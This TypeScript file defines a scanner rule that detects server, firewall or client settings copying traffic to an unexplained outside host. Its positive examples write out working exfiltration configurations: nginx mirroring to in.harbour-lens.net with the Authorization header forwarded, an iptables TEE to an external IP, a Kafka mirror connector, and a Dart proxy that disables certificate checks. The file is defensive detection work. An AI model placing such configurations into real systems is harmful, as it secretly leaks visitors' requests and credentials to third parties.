import type { Document } from '../../document.ts'
import { defineRule, type Hit, placeOf } from '../../rule.ts'
import { regex } from '../../patterns/verbose.ts'
import { candidates } from '../../signals/candidates.ts'
import { isForeignFor, isLocal, isStandIn } from '../../signals/hosts.ts'
import { addressesIn, snippets } from '../../signals/snippets.ts'
import { worded } from '../../wording.ts'

/** A server passes on what it is asked, or a copy of it. */
const COPIED = worded(
  regex.g`
    \bproxy_pass\s{1,4}https?:\/\/[^\s;]{4,120}|
    -j tee --gateway \S{4,60}|
    \btarget\.cluster\.bootstrap\.servers["']?\s?[:=]\s?["']?[\w.-]{4,80}|
    "certificates"\s?:[^]{0,160}?"httpproxy"\s?:\s?"[\w.-]{4,80}|
    \bfindproxy\b[^\n]{0,40}?\bproxy [\w.-]{4,80}
  `,
)

/** It is a copy. */
const MIRROR =
  /\bmirror\s{1,4}\/|\bmirror_request_body\b|-j tee\b|\bmirrorsourceconnector\b|\bbadcertificatecallback\b|"certificates"\s?:/

/** What people are signed in with goes along. */
const SIGN_IN = /\$http_(?:authorization|cookie)\b/

/** Machines of a net of one's own. */
const NEAR = /--gateway (?:10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\$)/

export default defineRule({
  id: 'tapped-traffic',
  since: 1,
  category: 'exfiltration',
  severity: 'high',
  confidence: 'high',
  cwe: 'CWE-201',
  title: 'Has a server send a stranger what passes through it',
  description:
    'The settings of a server or a firewall copy all requests to a host that the text gives no reason for. It reads what visitors send, their sign-in included, and nobody sees it.',
  remediation: 'Remove the copy, or mirror to a host of the same house and say so.',
  harmlessIf: 'the host belongs to those who run the server',
  needs: [],
  examples: {
    fires: [
      '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m {\n  internal;\n  proxy_pass https://in.harbour-lens.net$request_uri;\n}\n```\n',
      '```nginx\nmirror /copy;\nlocation /copy {\n  proxy_pass https://in.harbour-lens.net;\n  proxy_set_header Authorization $http_authorization;\n}\n```\n',
      '```json\n{ "connector.class": "org.apache.kafka.connect.mirror.MirrorSourceConnector", "target.cluster.bootstrap.servers": "b1.harbour-lens.net:9092", "topics": ".*" }\n```\n',
      "```dart\nreturn super.createHttpClient(c)\n  ..findProxy = ((_) => 'PROXY in.harbour-lens.net:8443')\n  ..badCertificateCallback = (cert, host, port) => true;\n```\n",
      '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
    ],
    quiet: [
      '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m { proxy_pass http://staging_pool$request_uri; }\n```\n',
      '```nginx\nlocation /api/ { proxy_pass https://api.example.com; }\n```\n',
      '```bash\niptables -t mangle -A PREROUTING -j TEE --gateway 10.0.0.9\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    const { text } = document.reading
    for (const { start, end } of candidates(document, document.observe(snippets), COPIED)) {
      const snippet = text.slice(start, end)
      if (!MIRROR.test(snippet)) continue
      for (const found of snippet.matchAll(COPIED)) {
        if (NEAR.test(found[0])) continue
        // A name without a dot is a pool of servers of the same settings.
        const named =
          /(?:servers["']?\s?[:=]\s?["']?|\bproxy |"httpproxy"\s?:\s?")([\w.-]{4,80})/.exec(
            found[0],
          )?.[1]
        const written = found[0].split('$')[0]!
        const strangers = (named ? [`https://${named}`] : addressesIn(written)).filter(
          (one) =>
            /\.[a-z]/.test(one) && !isLocal(one) && !isStandIn(one) && isForeignFor(document, one),
        )
        if (!found[0].startsWith('-j') && strangers.length === 0) continue
        yield {
          ...placeOf(start, found),
          firm: true,
          ...(SIGN_IN.test(snippet) && { severity: 'crit' as const }),
        }
      }
    }
  },
})
